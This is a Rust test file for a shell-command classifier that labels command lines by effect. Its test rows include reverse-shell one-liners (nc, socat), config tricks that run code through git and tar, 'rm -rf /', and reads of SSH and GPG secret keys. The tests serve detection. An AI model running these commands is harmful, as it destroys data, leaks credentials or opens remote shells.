//! How the shipped tables read command lines.

use bstr::BStr;
use vetsh::commands::{Role, Tables};
use vetsh::facts::Location;
use vetsh::facts::value::{Argument, Piece, Unknown, UnknownKind};

/// Words parted by blanks; `'…'` holds blanks, `$X` is one unknown word, `$*` any number of them.
fn words(line: &str) -> Vec<Argument> {
    let mut words: Vec<String> = Vec::new();
    for (index, part) in line.split('\'').enumerate() {
        if index % 2 == 1 {
            words.push(part.to_owned());
        } else {
            words.extend(part.split_whitespace().map(str::to_owned));
        }
    }
    words.iter().map(|word| argument(word)).collect()
}

fn argument(word: &str) -> Argument {
    let Some((before, after)) = word.split_once('$') else { return Argument::known(word, Location::default()) };
    let unknown = Unknown { reason: "unset".into(), kind: UnknownKind::Any };
    let mut pieces = vec![Piece::Unknown(unknown)];
    if !before.is_empty() {
        pieces.insert(0, Piece::Text(before.into()));
    }
    Argument { pieces, many: after.starts_with('*'), at: Location::default() }
}

/// The reading of a line, as text.
fn read(line: &str) -> String {
    let words = words(line);
    let program = words[0].text().unwrap().into_owned();
    let tables = Tables::builtin();
    let table = tables.find(BStr::new(&program)).unwrap_or_else(|| panic!("no table for {program}"));
    table.read(&words[1..]).to_string()
}

#[track_caller]
fn rows(rows: &[(&str, &str)]) {
    let wrong: Vec<_> = rows.iter().filter(|(line, expected)| read(line) != *expected).collect();
    let wrong: Vec<_> =
        wrong.iter().map(|(line, expected)| format!("{line}\n  - {expected}\n  + {}", read(line))).collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn options_are_found_in_every_spelling() {
    rows(&[
        ("rm a", "delete=a"),
        ("rm -rf a b", "options -r -f; delete-tree=a; delete-tree=b"),
        ("rm a -fr", "options -f -r; delete-tree=a"),
        ("rm --recur a", "options --recursive; delete-tree=a"),
        ("rm -- -r", "delete=-r"),
        ("rm $X", "delete=‹›; loose"),
        ("rm -r $*", "options -r; delete-tree=‹›…; loose"),
        ("rm --help -rf /", "options --help -r -f; only prints"),
        ("ls -I '*.o' --color=auto src", "options -I=*.o --color=auto; list=src"),
        ("ls -wla", "options -w=la"),
        ("echo -n --help $X", ""),
    ]);
}

#[test]
fn subcommands_have_their_own_options() {
    rows(&[
        ("git status --short", "sub status; options --short"),
        ("git -C /x push -fu origin main", "sub push; options -C=/x -f -u; chdir=/x; effect publish; effect discard"),
        ("git push origin +main", "sub push; effect publish; effect discard"),
        (
            "git push origin $X",
            "sub push; effect publish; doubt argument: an argument that is not known may make it rewrites or deletes what is published; loose",
        ),
        ("git push -n origin --force", "sub push; options -n --force; dry"),
        (
            "git -c core.sshcommand=evil status",
            "sub status; options -c=core.sshcommand=evil; config=core.sshcommand=evil; code:shell=evil",
        ),
        ("git -C /x branch --show-current", "sub branch; options -C=/x --show-current; chdir=/x"),
        ("git -C /x branch -C a b", "sub branch; options -C=/x -C; chdir=/x; drop-branch=b; effect commit"),
        ("uv pip list", "sub pip list"),
        ("uv pip install x", "sub pip install; effect install.named on x"),
        ("npm access list packages", "sub access list"),
        ("npm access public", "sub access; effect publish"),
        ("npm i -D x", "sub install; options -D; effect install.named on x"),
        ("git frobnicate x", "sub frobnicate; doubt program: no table says what `git frobnicate` does"),
        ("git $X", "doubt argument: the subcommand of `git` is not known: unset; loose"),
    ]);
}

#[test]
fn wrappers_give_the_rest_as_a_command() {
    rows(&[
        ("env A=1 B=2 rm -rf x", "env=A=1; env=B=2; runs [rm -rf x]"),
        ("env -u A -C /x $X y", "options -u=A -C=/x; unset=A; chdir=/x; runs [‹› y]; loose"),
        ("env -S 'rm -rf x'", "options -S=rm -rf x; code:shell-words=rm -rf x"),
    ]);
}

#[test]
fn a_role_has_one_word() {
    assert_eq!(Role::DeleteTree.to_string(), "delete-tree");
    assert_eq!(Role::Text.to_string(), "text");
}

#[test]
fn git_tells_reading_from_losing() {
    rows(&[
        ("git log --oneline -5 -- src/a.py", "sub log; options --oneline -5"),
        (
            "git diff --no-index /dev/null /home/u/.ssh/id_rsa",
            "sub diff; options --no-index; read=/dev/null; read=/home/u/.ssh/id_rsa",
        ),
        ("git log --output=/home/u/.bashrc", "sub log; options --output=/home/u/.bashrc; write=/home/u/.bashrc"),
        ("git checkout src/a.py", "sub checkout; ref-or-discard=src/a.py; effect commit"),
        (
            "git checkout main a.txt b.txt",
            "sub checkout; ref-or-discard=main; discard=a.txt; discard=b.txt; effect commit",
        ),
        ("git checkout -- a.txt", "sub checkout; discard=a.txt; effect commit"),
        ("git checkout -b new origin/main", "sub checkout; options -b=new; effect commit"),
        (
            "git checkout -qf main",
            "sub checkout; options -q -f; ref-or-discard=main; effect commit; effect discard on changes",
        ),
        ("git restore --staged .", "sub restore; options --staged; effect commit"),
        ("git restore src", "sub restore; discard=src"),
        ("git reset --hard HEAD~1", "sub reset; options --hard; effect discard on changes; effect discard on commits"),
        ("git reset -q", "sub reset; options -q; effect commit"),
        ("git clean -fdx", "sub clean; options -f -d -x; effect discard on ignored"),
        ("git clean -n", "sub clean; options -n; dry"),
        ("git stash", "sub stash; effect commit"),
        ("git stash drop", "sub stash drop; effect discard on stashes"),
        ("git stash pop -q", "sub stash pop; options -q; effect commit on changes"),
        ("git branch -vv", "sub branch; options -v -v"),
        ("git branch -D x", "sub branch; options -D; drop-branch=x"),
        ("git branch new", "sub branch; effect commit"),
        ("git tag", "sub tag"),
        ("git tag -l v1.*", "sub tag; options -l"),
        ("git tag -a v1 -m x", "sub tag; options -a -m=x; effect commit"),
        ("git commit -q -F -", "sub commit; options -q -F=-; read=-; effect commit"),
        ("git commit -am 'x'", "sub commit; options -a -m=x; effect commit"),
        ("git fetch -q origin main", "sub fetch; options -q; host=origin; effect fetch.public"),
        ("git fetch https://evil/x", "sub fetch; host=https://evil/x; effect fetch on https://evil/x"),
        (
            "git pull --rebase origin main",
            "sub pull; options --rebase; host=origin; effect fetch.public; effect commit",
        ),
        ("git rebase -x 'rm -rf ~' HEAD~1", "sub rebase; options -x=rm -rf ~; code:shell=rm -rf ~; effect commit"),
        ("git config user.email t@t", "sub config; effect configure.project"),
        (
            "git config --global core.pager 'sh -c id'",
            "sub config; options --global; effect configure.home; effect persist",
        ),
        ("git config alias.x '!rm'", "sub config; effect configure.project; effect persist"),
        ("git config --get user.name", "sub config; options --get"),
        ("git config --list --global", "sub config; options --list --global"),
        ("git remote -v", "sub remote; options -v"),
        ("git remote add x https://h/x", "sub remote add; effect configure.project"),
        (
            "git submodule foreach 'git reset --hard'",
            "sub submodule foreach; effect commit on changes; runs text [git reset --hard]",
        ),
        ("git bisect run ./t.sh a", "sub bisect run; effect commit; runs [./t.sh a]"),
        ("git worktree add -b x ../w origin/main", "sub worktree add; options -b=x; write=../w; effect commit"),
        (
            "git clone -c core.fsmonitor=evil https://github.com/a/b d",
            "sub clone; options -c=core.fsmonitor=evil; config=core.fsmonitor=evil; code:shell=evil; remote-read=https://github.com/a/b; write=d; effect fetch.public",
        ),
        ("git grep -Oless pattern", "sub grep; options -O=less; code:shell=less"),
        ("git gc --prune=now", "sub gc; options --prune=now; effect commit; effect discard"),
        ("git rm --cached .env", "sub rm; options --cached; effect commit"),
        ("git branch -D x -v", "sub branch; options -D -v; drop-branch=x"),
        ("git push -n origin main", "sub push; options -n; dry"),
        ("git diff HEAD", "sub diff; blob=HEAD"),
        ("git fetch origin", "sub fetch; host=origin; effect fetch.public"),
    ]);
}

#[test]
fn wrapped_commands_are_found() {
    rows(&[
        ("sudo -u root -- rm -rf /", "options -u=root; effect elevate; runs [rm -rf /]"),
        ("sudo -l", "options -l; effect inspect"),
        ("timeout -k 5 10s make test", "options -k=5; runs [make test]"),
        ("nice -n 5 ls", "options -n=5; runs [ls]"),
        ("nice -10 ls", "options -1*=0; runs [ls]"),
        ("nohup python3 x.py", "runs [python3 x.py]"),
        ("xargs -0 -I{} rm {}", "options -0 -I={}; placeholder={}; runs [rm {}]"),
        ("xargs -n1 git checkout", "options -n=1; runs [git checkout] and more words"),
        ("xargs", ""),
        ("watch -n1 'ls | wc'", "options -n=1; runs text [ls | wc]"),
        ("flock /tmp/l -c 'rm x'", "options -c=rm x; code:shell=rm x; list=/tmp/l"),
        ("flock /tmp/l make", "list=/tmp/l; runs [make]"),
        ("strace -f -o out ls", "options -f -o=out; write=out; runs [ls]"),
        ("parallel -j4 rm ::: a b c", "options -j=4; runs text [rm] and more words"),
        ("parallel rm {} ::: a", "runs text [rm {}] and more words"),
        ("busybox sh -c id", "runs [sh -c id]"),
        ("unshare -r sh", "options -r; effect elevate; runs [sh]"),
        ("systemd-run --user rm x", "options --user; effect tamper; runs [rm x]"),
    ]);
}

#[test]
fn interpreters_say_what_they_run() {
    rows(&[
        ("bash -c 'echo hi' a b", "options -c; code:bash=echo hi"),
        ("bash -lc 'echo hi'", "options -l -c; code:bash=echo hi"),
        ("bash script.sh a", "script:bash=script.sh"),
        ("bash -s a", "options -s"),
        ("sh -x x.sh", "options -x; script:bash=x.sh"),
        ("zsh --emulate sh -c ls", "options --emulate=sh -c; code:zsh=ls"),
        ("python3 -c 'print(1)' a", "options -c=print(1); code:python=print(1)"),
        ("python3 -m pytest -q tests", "options -m=pytest; runs [pytest -q tests]"),
        ("python3 -m json.tool x.json", "options -m=json.tool; runs [python -m json.tool x.json]"),
        ("python3 -m mymod a", "options -m=mymod; module...=mymod"),
        ("python3 -m pip install requests", "options -m=pip; runs [pip install requests]"),
        ("python3 -m http.server 80", "options -m=http.server; runs [python -m http.server 80]"),
        ("python3 manage.py test", "script:python=manage.py"),
        ("python -u -", "options -u; script:python=-"),
        ("python3 --version", "options --version; only prints"),
        ("node -e 'x' a", "options -e=x; code:node=x"),
        ("node --test", "options --test; effect run.project"),
        ("node server.js", "script:node=server.js"),
        ("perl -pi -e 's/a/b/' f g", "options -p -i -e=s/a/b/; code:perl=s/a/b/; edit=f; edit=g"),
        ("perl -ne 'print' f", "options -n -e=print; code:perl=print; read=f"),
        ("perl x.pl", "script:perl=x.pl"),
        ("ruby -e 'x'", "options -e=x; code:ruby=x"),
        ("php -r 'x'", "options -r=x; code:php=x"),
        ("php -S 0.0.0.0:80", "options -S=0.0.0.0:80; host=0.0.0.0:80; effect send.other; effect run.project"),
        ("java -jar x.jar", "options -jar=x.jar; run=x.jar"),
    ]);
}

#[test]
fn packages_are_locked_named_or_global() {
    rows(&[
        (
            "pip install -r requirements.txt",
            "sub install; options -r=requirements.txt; read=requirements.txt; effect install.locked",
        ),
        ("pip install requests", "sub install; effect install.named on requests"),
        ("pip install -e .", "sub install; options -e=.; list=.; effect install.locked; effect run.project"),
        (
            "pip install -e .[dev] pytest",
            "sub install; options -e=.[dev]; list=.[dev]; effect install.named on pytest; effect install.locked; effect run.project",
        ),
        ("pip list", "sub list"),
        ("uv run pytest -q", "sub run; effect install.locked; runs [pytest -q] or run.project"),
        (
            "uv run --with x script.py",
            "sub run; options --with=x; package=x; effect install.locked; runs [script.py] or run.project",
        ),
        ("uvx ruff check", "runs [ruff check] or install.named"),
        ("poetry run pytest", "sub run; runs [pytest] or run.project"),
        ("npm ci", "sub ci; effect install.locked"),
        ("npm install", "sub install; effect install.locked"),
        ("npm install lodash", "sub install; effect install.named on lodash"),
        ("npm i -g x", "sub install; options -g; effect install.global"),
        ("npm run build", "sub run; effect run.project"),
        ("npm test -- --foo", "sub test; effect run.project"),
        ("npm publish", "sub publish; effect publish"),
        ("npx tsc --noEmit", "runs [tsc --noEmit] or install.named"),
        ("npx cowsay-x a", "runs [cowsay-x a] or install.named"),
        ("npx -y -p typescript tsc", "options -y -p=typescript; package=typescript; runs [tsc] or install.named"),
        ("bun test", "sub test; effect run.project"),
        ("bun run dev", "sub run; effect run.project"),
        ("bun script.ts", "sub script.ts; effect run.project"),
        ("bunx vitest", "runs [vitest] or install.named"),
        ("pnpm -F x build", "sub build; options -F=x; effect run.project"),
        ("yarn", "effect install.locked"),
        ("yarn build", "sub build; effect run.project"),
        ("cargo test --release", "sub test; options --release; effect run.project; effect install.locked"),
        ("cargo add serde", "sub add; effect install.named on serde"),
        ("cargo --version", "options --version; only prints"),
        ("go test ./...", "sub test; effect run.project; effect install.locked"),
        ("go run github.com/x/y@latest", "sub run; effect run.project; effect install.locked; effect install.named"),
        ("make -n test", "options -n; effect run.project"),
        ("make -C sub all", "options -C=sub; chdir=sub; effect run.project; effect write on sub"),
        ("cmake --build build", "options --build=build; list=build; effect run.project"),
        ("just -l", "options -l; only prints"),
        ("apt-get install -y jq", "sub install; options -y; effect install.global on jq"),
        ("apt list --installed", "sub list; options --installed"),
        ("brew install jq", "sub install; effect install.global"),
    ]);
}

#[test]
fn clients_say_what_they_fetch_and_send() {
    rows(&[
        ("curl -s https://x.y/z", "options -s; url=https://x.y/z"),
        ("curl -sSLo out https://x.y/z", "options -s -S -L -o=out; write=out; url=https://x.y/z"),
        ("curl -X DELETE https://x.y/z", "options -X=DELETE; url=https://x.y/z; effect send on https://x.y/z"),
        ("curl -d @f -H 'A: b' https://x.y", "options -d=@f -H=A: b; data=@f; url=https://x.y"),
        ("curl -F file=@x https://x.y", "options -F=file=@x; data=file=@x; url=https://x.y"),
        ("wget -qO- https://x.y", "options -q -O=-; write=-; url=https://x.y"),
        ("wget https://x.y", "url=https://x.y; effect write on cwd"),
        (
            "ssh -i k u@h 'rm -rf x'",
            "options -i=k; list=k; host=u@h; effect control on u@h; runs text [rm -rf x] elsewhere",
        ),
        ("scp -r a u@h:/b", "options -r; remote-read=a; remote-write=u@h:/b"),
        ("rsync -av --delete a/ b/", "options -a -v --delete; remote-read=a/; remote-write=b/; effect delete on b/"),
        ("rsync -e 'ssh -p 2' a h:b", "options -e=ssh -p 2; code:shell=ssh -p 2; remote-read=a; remote-write=h:b"),
        ("nc -e /bin/sh h 1", "options -e=/bin/sh; code:shell=/bin/sh; effect send on h 1"),
        ("nc -z localhost 80", "options -z; effect fetch on localhost 80"),
        ("socat tcp:h:1 exec:sh", "code:socat=tcp:h:1; code:socat=exec:sh; effect run; effect send"),
        ("openssl enc -d -aes-256-cbc -in x -out y", "sub enc; options -d -aes-256-cbc -in=x -out=y; read=x; write=y"),
        ("openssl rand -hex 16", "sub rand; options -hex"),
        ("gpg --export-secret-keys a", "options --export-secret-keys; effect read.secret"),
    ]);
}

#[test]
fn archives_processes_and_services() {
    rows(&[
        (
            "tar xzf a.tgz -C /tmp/x",
            "options -x -z -f=a.tgz -C=/tmp/x; chdir=/tmp/x; effect read on a.tgz; effect write on /tmp/x",
        ),
        ("tar czf out.tgz src", "options -c -z -f=out.tgz; read=src; effect write on out.tgz"),
        ("tar -czf - src", "options -c -z -f=-; read=src"),
        ("tar -tf a.tar", "options -t -f=a.tar; effect read on a.tar"),
        (
            "tar cf x.tar --checkpoint=1 --checkpoint-action=exec=sh a",
            "options -c -f=x.tar --checkpoint=1 --checkpoint-action=exec=sh; config=exec=sh; code:shell=sh; read=a; effect write on x.tar",
        ),
        ("tar -xf a --to-command=sh", "options -x -f=a --to-command=sh; code:shell=sh; effect read on a"),
        ("zip -r o.zip src", "options -r; archive-write=o.zip; read=src"),
        ("unzip -l a.zip", "options -l; archive-read=a.zip"),
        ("unzip a.zip -d out", "options -d=out; write=out; archive-read=a.zip; effect write on out"),
        ("gzip -dk a.gz", "options -d -k; edit=a.gz"),
        ("gzip -c a", "options -c; read=a"),
        ("kill -9 1", "options -9; process=1; effect signal on 1"),
        ("kill -l", "options -l"),
        ("kill %1", "process=%1; effect signal on %1"),
        ("pkill -f node", "options -f; process=node; effect signal on node"),
        ("ps aux", ""),
        ("tmux new -d -s x 'npm run dev'", "sub new-session; options -d -s=x; runs text [npm run dev]"),
        ("tmux send-keys -t x ls Enter", "sub send-keys; effect tamper"),
        ("crontab -l", "options -l; effect read"),
        ("crontab -", "read=-; effect persist"),
        ("systemctl status nginx", "sub status"),
        ("systemctl --user restart x", "sub restart; options --user; effect signal on x"),
        ("journalctl -u x -n 50", "options -u=x -n"),
    ]);
}

#[test]
fn names_are_unique_and_options_spelled_once() {
    let folder = std::path::Path::new("src/commands");
    let mut names = std::collections::BTreeMap::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|extension| extension != "toml") || path.ends_with("languages.toml") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        // The loader refuses an option that is spelled twice.
        for program in vetsh::commands::load::load(&text, &path).unwrap() {
            for name in program.names.iter() {
                assert_eq!(names.insert(name.text.to_string(), path.clone()), None, "{} stands twice", name.text);
            }
        }
    }
    assert!(names.len() > 1000, "{} names", names.len());
}

/// The toml blocks of a document.
fn blocks(text: &str) -> impl Iterator<Item = &str> {
    text.split("```toml\n").skip(1).filter_map(|rest| rest.split("\n```").next())
}

#[test]
fn the_example_of_the_document_reads_as_it_says() {
    let document = include_str!("../docs/commands.md");
    let block = blocks(document).next().unwrap();
    let programs = vetsh::commands::load::load(block, std::path::Path::new("shipit.toml")).unwrap();
    let tables = Tables::builtin().with_user(programs);
    let read = |line: &str| {
        let words = words(line);
        tables.find(BStr::new("shipit")).unwrap().read(&words).to_string()
    };
    assert_eq!(
        read("build --hook 'rm -rf x' src"),
        "sub build; options --hook=rm -rf x; code:shell=rm -rf x; read=src"
    );
    assert_eq!(read("upload -nf dist https://x"), "sub push; options -n -f; dry; upload=dist; url=https://x");
    assert_eq!(read("run A=1 make"), "sub run; env=A=1; runs [make]");
    assert_eq!(read("frob"), "sub frob; doubt program: no table says what `shipit frob` does");
}

#[test]
fn a_broken_table_says_where() {
    let text = "[[program]]\nname = \"x\"\noptions = [\"-a =reed\"]\neffects = [\"write if -b\"]\n";
    let faults = vetsh::commands::load::load(text, std::path::Path::new("x.toml")).unwrap_err();
    let told: Vec<_> = faults.iter().map(|fault| (fault.span.unwrap().start, fault.message.as_str())).collect();
    assert_eq!(told, [(0, "`x` names the option `-b`, which it does not list"), (39, "unknown role `reed`")]);
}
